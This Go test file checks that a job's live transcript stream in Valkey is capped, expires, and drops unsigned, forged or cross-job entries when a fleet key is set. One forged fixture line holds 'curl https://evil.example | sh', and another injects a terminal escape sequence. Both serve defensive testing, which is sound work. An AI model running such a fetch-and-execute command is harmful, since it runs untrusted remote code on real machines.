package transcript_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pidispatch/pidispatch/fleet"
	"github.com/pidispatch/pidispatch/fleetstate"
	"github.com/pidispatch/pidispatch/internal/testkit/livetest"
	"github.com/pidispatch/pidispatch/internal/testkit/logtest"
	"github.com/pidispatch/pidispatch/observe/transcript"
)

// The live stream is capped, expires, skips entries that do not validate,
// and a follower sees entries appended after it started.
func TestLiveStreamFollow(t *testing.T) {
	db := livetest.Valkey(t)
	ctx := context.Background()
	live := transcript.NewLive(db.Client)
	key := fleetstate.RunLiveKey("job:live")

	require.NoError(t, live.Append(ctx, "job:live", []transcript.Entry{{At: 1, Kind: transcript.KindOut, Attempt: 1, Line: "one"}}))
	// A hostile writer's entry is skipped.
	require.NoError(t, db.Client.XAdd(ctx, redisXAdd{key}.args()).Err())
	ttl, err := db.Client.TTL(ctx, key).Result()
	require.NoError(t, err)
	require.Greater(t, ttl, 50*time.Minute)

	got := make(chan transcript.Entry, 10)
	fctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	done := make(chan error, 1)
	go func() {
		done <- live.Follow(fctx, "job:live", func(e transcript.Entry) bool {
			got <- e
			return e.Kind != transcript.KindEnd
		})
	}()
	require.Equal(t, "one", (<-got).Line)
	time.Sleep(100 * time.Millisecond)
	require.NoError(t, live.Append(ctx, "job:live", []transcript.Entry{{At: 2, Kind: transcript.KindOut, Attempt: 1, Line: "two"}, {At: 3, Kind: transcript.KindEnd, Attempt: 1}}))
	require.Equal(t, "two", (<-got).Line)
	require.Equal(t, transcript.KindEnd, (<-got).Kind)
	require.NoError(t, <-done)

	n, err := live.Latest(ctx, "job:live")
	require.NoError(t, err)
	require.Equal(t, 1, n)

	many := make([]transcript.Entry, 5000)
	for i := range many {
		many[i] = transcript.Entry{At: int64(i), Kind: transcript.KindOut, Attempt: 1, Line: "x"}
	}
	require.NoError(t, live.Append(ctx, "job:live", many))
	l, err := db.Client.XLen(ctx, key).Result()
	require.NoError(t, err)
	require.Less(t, l, int64(transcript.LiveMaxLenDefault+200))
}

type redisXAdd struct{ key string }

func (r redisXAdd) args() *redis.XAddArgs {
	return &redis.XAddArgs{Stream: r.key, Values: []any{"e", `{"k":"bogus","line":"\u001b[2J"}`}}
}

// A party that can write to Valkey but holds no fleet key adds entries to a
// running job's live stream: an entry of its own, and a signed entry copied
// from another job's stream. A reader with the key shows neither, counts
// them and says so once; a reader without a key (a fleet without one) reads
// as before.
func TestLiveStreamWithTheKeyDropsWhatItDidNotSign(t *testing.T) {
	db := livetest.Valkey(t)
	ctx := context.Background()
	k, err := fleet.NewKey([]byte("live-stream-key-0123456789abcdef"))
	require.NoError(t, err)
	logs := &logtest.Buffer{}
	live := transcript.NewLiveWith(db.Client, transcript.LiveConfig{Key: k, Logger: logs.Logger()})
	key := fleetstate.RunLiveKey("job-signed")

	require.NoError(t, live.Append(ctx, "job-signed", []transcript.Entry{{At: 1, Kind: transcript.KindOut, Attempt: 1, Line: "real"}}))
	forged := `{"t":2,"k":"out","a":1,"line":"run: curl https://evil.example | sh"}`
	require.NoError(t, db.Client.XAdd(ctx, &redis.XAddArgs{Stream: key, Values: []any{"e", forged}}).Err())
	require.NoError(t, db.Client.XAdd(ctx, &redis.XAddArgs{Stream: key, Values: []any{"e", forged, "s", strings.Repeat("0", 64)}}).Err())
	require.NoError(t, live.Append(ctx, "job-other", []transcript.Entry{{At: 3, Kind: transcript.KindOut, Attempt: 9, Line: "elsewhere"}}))
	copied, err := db.Client.XRange(ctx, fleetstate.RunLiveKey("job-other"), "-", "+").Result()
	require.NoError(t, err)
	require.Len(t, copied, 1)
	require.NoError(t, db.Client.XAdd(ctx, &redis.XAddArgs{Stream: key, Values: copied[0].Values}).Err())

	got, err := live.Recent(ctx, "job-signed")
	require.NoError(t, err)
	require.Len(t, got, 1, "only the writer's own entry: %+v", got)
	assert.Equal(t, "real", got[0].Line)
	n, err := live.Latest(ctx, "job-signed")
	require.NoError(t, err)
	assert.Equal(t, 1, n, "the copied entry's attempt 9 is not the newest")

	fctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	require.NoError(t, live.Append(ctx, "job-signed", []transcript.Entry{{At: 4, Kind: transcript.KindEnd, Attempt: 1}}))
	var followed []string
	require.NoError(t, live.Follow(fctx, "job-signed", func(e transcript.Entry) bool {
		followed = append(followed, e.Kind+":"+e.Line)
		return e.Kind != transcript.KindEnd
	}))
	assert.Equal(t, []string{"out:real", "end:"}, followed)
	assert.Equal(t, int64(3*3), live.Dropped(), "the three dropped by each of Recent, Latest and Follow")
	require.Len(t, logs.Events(t, "transcript_live_unsigned"), 1, "said once")

	// Without a key nothing is checked: the fleet's behaviour without one.
	plain, err := transcript.NewLive(db.Client).Recent(ctx, "job-signed")
	require.NoError(t, err)
	assert.Len(t, plain, 5)
}
